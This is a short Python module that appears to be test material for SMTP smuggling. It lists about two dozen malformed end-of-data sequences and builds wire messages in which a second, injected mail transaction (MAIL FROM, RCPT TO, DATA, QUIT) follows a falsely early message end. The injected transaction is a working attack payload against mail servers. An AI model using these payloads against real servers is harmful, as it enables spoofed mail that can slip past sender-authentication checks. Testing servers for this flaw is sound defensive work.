"""The sequences with which a second message is smuggled into a first: to some server each of them ends a message."""

from __future__ import annotations

# A CR or LF that stands alone, or a NUL, is in every one. What is made of other octets only (a vertical tab, a Unicode
# line separator) is part of the message by every standard, and passes.
SEQUENCES = (
    b"\n.\n",
    b"\n.\r\n",
    b"\n.\r",
    b"\r.\r",
    b"\r.\n",
    b"\r.\r\n",
    b"\r\n.\n",
    b"\r\n.\r",
    b"\n\r.\n\r",
    b"\n\r.\r\n",
    b"\r\n.\n\r",
    b"\r\n.\r\r\n",
    b"\r\r.\r\r",
    b"\n\n.\n\n",
    b"\r\n.\n\n",
    b"\r\n\0.\r\n",
    b"\r\n.\0\r\n",
    b"\r\n.\r\0\n",
    b"\r\0\n.\r\n",
    b"\n\0.\r\n",
    b"\r\n\0.\0\r\n",
    b"\r.\0\n",
    b"\n.\r\0\n",
    b"\r\n..\n",
    b"\n..\r\n",
)
_SECOND = b"MAIL FROM:<evil-%s@corp.example>\r\nRCPT TO:<%s>\r\nDATA\r\nSubject: second\r\n\r\n%s\r\n.\r\nQUIT\r\n"


def smuggled(sequence: bytes, recipient: bytes, mark: bytes) -> bytes:
    """A message, as it goes on the wire, whose end seems to come early; behind that end a second mail follows."""
    return b"Subject: first\r\n\r\n" + mark + b"-first" + sequence + _SECOND % (mark, recipient, mark + b"-second")


def name(sequence: bytes) -> str:
    """The sequence for people: `\\r\\n.\\n`."""
    return ascii(sequence)[2:-1]
